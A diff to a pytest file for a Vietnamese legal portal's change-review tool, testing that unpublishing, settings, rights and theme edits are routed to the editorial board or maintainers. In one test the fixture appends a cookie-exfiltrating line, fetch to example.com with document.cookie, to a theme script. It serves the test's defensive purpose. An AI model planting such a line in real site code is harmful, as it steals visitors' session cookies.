@@ -10,8 +10,10 @@ from pathlib import Path
 import pytest
 from editorial_repo import PortalRepo
 
+from pbgdpl.catalog.status import Status, status_phrase
 from pbgdpl.editorial.review import review_changes
 from pbgdpl.editorial.review_format import md, to_markdown
+from pbgdpl.model.moment import BuildMoment
 
 from conftest import write
 
@@ -85,7 +87,7 @@ def test_an_editor_touching_another_agency_and_the_theme_is_flagged(
     assert (
         f"| Bộ Tư pháp | Tin tức, hoạt động | sửa | Tập huấn cho Ban Biên tập | `{NEWS}` |" in out
     )
-    assert "cần Ban Biên tập lưu ý" in out
+    assert "**Kết luận: chưa thể hợp nhất cho đến khi nhóm kỹ thuật duyệt**" in out
 
 
 def test_rights_come_from_the_base_so_a_branch_cannot_grant_itself_an_agency(
@@ -244,3 +246,156 @@ def test_a_branch_cannot_hide_a_file_from_the_report_with_gitattributes(
 
     assert (broken, "invalid-date") in [(d.path, d.code) for d in review.errors]
     assert [f.change.path for f in review.platform] == [".gitattributes"]
+
+
+BOARD = "pbgdpl-bbt/thuong-truc"
+MAINTAINER = "pbgdpl-bbt/ky-thuat"
+
+
+@pytest.mark.parametrize(
+    ("added", "how"),
+    [
+        ("draft: true\n", "đặt lại thành bản nháp (draft: true)"),
+        (
+            "publish_at: 2099-01-01T08:00\n",
+            "dời giờ đăng sang 01/01/2099 08:00 (publish_at)",
+        ),
+        (
+            'withdrawn: {date: 2026-11-01, reason: "Hết thời hạn."}\n',
+            "thôi đăng từ ngày 01/11/2026 (withdrawn)",
+        ),
+    ],
+    ids=["draft", "publish_at", "withdrawn"],
+)
+def test_taking_a_published_page_down_needs_the_board(
+    portal_repo: PortalRepo,
+    run_cli: Callable[..., tuple[int, str, str]],
+    added: str,
+    how: str,
+) -> None:
+    portal_repo.edit(NEWS, "date: 2026-10-01\n", f"date: 2026-10-01\n{added}")
+    portal_repo.commit("Gỡ tin tập huấn")
+
+    status, out, _ = run_cli(portal_repo.root, "review", "main", "bien-tap", "--author", BTP_EDITOR)
+
+    assert status == 1
+    assert f"`{NEWS}:4` lỗi [unpublished]" in out  # the line of the key
+    assert md(how) in out and "cần Ban Biên tập quyết định" in out
+
+    # The board taking a page down is its own decision: listed, not an error.
+    status, out, _ = run_cli(portal_repo.root, "review", "main", "bien-tap", "--author", BOARD)
+    assert status == 0
+    assert f"| Ban Biên tập | `{NEWS}` | Gỡ bài đã đăng: {md(how)}. |" in out
+    assert "chỉ hợp nhất khi Ban Biên tập duyệt" in out
+
+
+DECREE = "agencies/bo-tu-phap/van-ban-moi/nghi-dinh-15-2021-nd-cp.md"
+DECREE_TEXT = """\
+---
+title: Nghị định quy định chi tiết Luật Hòa giải ở cơ sở
+so_ky_hieu: "15/2021/NĐ-CP"
+loai_van_ban: Nghị định
+co_quan_ban_hanh: Chính phủ
+nguoi_ky: Phạm Minh Chính
+chuc_danh: Thủ tướng Chính phủ
+ngay_ban_hanh: 2021-03-01
+ngay_hieu_luc: 2021-04-20
+linh_vuc: [Hòa giải ở cơ sở]
+trich_yeu: Quy định chi tiết một số điều của Luật Hòa giải ở cơ sở
+huong_dan: ["35/2013/QH13"]
+thay_the: ["15/2014/NĐ-CP"]
+---
+
+Nghị định quy định chi tiết một số điều và biện pháp thi hành Luật Hòa giải ở cơ sở.
+"""
+
+
+def test_a_new_legal_document_shows_every_fact_to_check(
+    portal_repo: PortalRepo, run_cli: Callable[..., tuple[int, str, str]]
+) -> None:
+    write(portal_repo.root / DECREE, DECREE_TEXT)
+    scheduled = "agencies/bo-tu-phap/tin-tuc/thong-bao-tiep-cong-dan.md"
+    write(
+        portal_repo.root / scheduled,
+        "---\ntitle: Thông báo tiếp công dân\ndate: 2026-11-20\n"
+        "publish_at: 2099-01-02T07:30\n---\n\nLịch tiếp công dân.\n",
+    )
+    portal_repo.commit("Thêm Nghị định 15/2021/NĐ-CP và một thông báo hẹn giờ")
+
+    status, out, _ = run_cli(portal_repo.root, "review", "main", "bien-tap", "--author", BTP_EDITOR)
+
+    assert status == 0, out
+    facts = out.split("### Bài mới: đối chiếu từng thông tin với bản gốc")[1]
+    today = BuildMoment.now().date
+    for row in (
+        "| Số ký hiệu (`so_ky_hieu`) | 15/2021/NĐ-CP |",
+        "| Cơ quan ban hành (`co_quan_ban_hanh`) | Chính phủ |",
+        "| Người ký (`nguoi_ky`) | Phạm Minh Chính |",
+        "| Ngày ban hành (`ngay_ban_hanh`) | 01/03/2021 |",
+        "| Ngày có hiệu lực (`ngay_hieu_luc`) | 20/04/2021 |",
+        f"| Tình trạng hiệu lực | {md(status_phrase(Status.IN_FORCE, today))} |",
+        "| Hướng dẫn, quy định chi tiết | 35/2013/QH13 |",
+        "| Thay thế | 15/2014/NĐ-CP \\(chưa có trên cổng\\) |",
+        f"| {md('Hẹn giờ đăng (giờ Việt Nam)')} (`publish_at`) | 02/01/2099 07:30 |",
+    ):
+        assert row in facts, row
+
+
+def test_settings_and_rights_changes_show_key_by_key_for_the_board(
+    portal_repo: PortalRepo, run_cli: Callable[..., tuple[int, str, str]]
+) -> None:
+    portal_repo.edit("content/portal.yml", "  tin-tuc: 30\n", "  tin-tuc: 3650\n")
+    portal_repo.edit("agencies/bo-tu-phap/agency.yml", "editors: [", "editors: [btp-bientap-moi, ")
+    portal_repo.commit("Sửa cài đặt")
+
+    status, out, _ = run_cli(portal_repo.root, "review", "main", "bien-tap", "--author", BTP_EDITOR)
+
+    assert status == 0
+    label = "Số ngày tối đa giữa hai lần cập nhật chuyên mục"
+    assert f"| {label} (`stale_after_days.tin-tuc`) | 30 | 3650 |" in out
+    settings = md("Thay đổi cài đặt: stale_after_days.tin-tuc.")
+    assert f"| Ban Biên tập | `content/portal.yml` | {settings} |" in out
+    # Adding a login to one's own agency is a rights change the board decides.
+    rights = md("Thay đổi quyền (Biên tập viên): thêm btp-bientap-moi.")
+    assert f"| Ban Biên tập | `agencies/bo-tu-phap/agency.yml` | {rights} |" in out
+    assert "chỉ hợp nhất khi Ban Biên tập duyệt" in out
+
+
+def test_a_platform_change_waits_for_a_maintainer(
+    portal_repo: PortalRepo, run_cli: Callable[..., tuple[int, str, str]]
+) -> None:
+    script = portal_repo.root / "theme/assets/pbgdpl/dashboard.js"
+    script.write_text(
+        script.read_text("utf-8") + "\nfetch('https://example.com/?' + document.cookie);\n"
+    )
+    portal_repo.commit("Sửa giao diện")
+
+    _, out, _ = run_cli(portal_repo.root, "review", "main", "bien-tap", "--author", BTP_EDITOR)
+    assert "**Kết luận: chưa thể hợp nhất cho đến khi nhóm kỹ thuật duyệt**" in out
+    assert "| Nhóm kỹ thuật | `theme/assets/pbgdpl/dashboard.js` |" in out
+
+    _, out, _ = run_cli(portal_repo.root, "review", "main", "bien-tap", "--author", MAINTAINER)
+    assert "cho đến khi nhóm kỹ thuật duyệt" not in out
+
+
+def test_a_changed_text_is_summarised_with_a_link_to_its_preview(
+    portal_repo: PortalRepo, run_cli: Callable[..., tuple[int, str, str]]
+) -> None:
+    portal_repo.edit(NEWS, "tổ chức tập huấn cho", "tổ chức hai lớp tập huấn cho")
+    text = (portal_repo.root / NEWS).read_text("utf-8")
+    (portal_repo.root / NEWS).write_text(text + "\nLớp thứ hai học về hòa giải.\n", "utf-8")
+    portal_repo.commit("Sửa tin tập huấn")
+
+    _, out, _ = run_cli(
+        portal_repo.root, "review", "main", "bien-tap", "--preview-url", "https://xem.example/pr-7"
+    )
+
+    body = out.split("### Nội dung đã sửa")[1]
+    assert "thêm 1 đoạn, bớt 0 đoạn, sửa 1 đoạn." in body
+    assert "- Câu cũ: “Bộ Tư pháp tổ chức tập huấn cho thành viên Ban Biên tập.”" in body
+    assert "- Câu mới: “Bộ Tư pháp tổ chức hai lớp tập huấn cho thành viên Ban Biên tập.”" in body
+    assert "- Đoạn thêm: “Lớp thứ hai học về hòa giải.”" in body
+    assert (
+        "[Xem trang trong bản xem trước](https://xem.example/pr-7/"
+        "bo-tu-phap/tin-tuc/tap-huan-ban-bien-tap/index.html)" in body
+    )
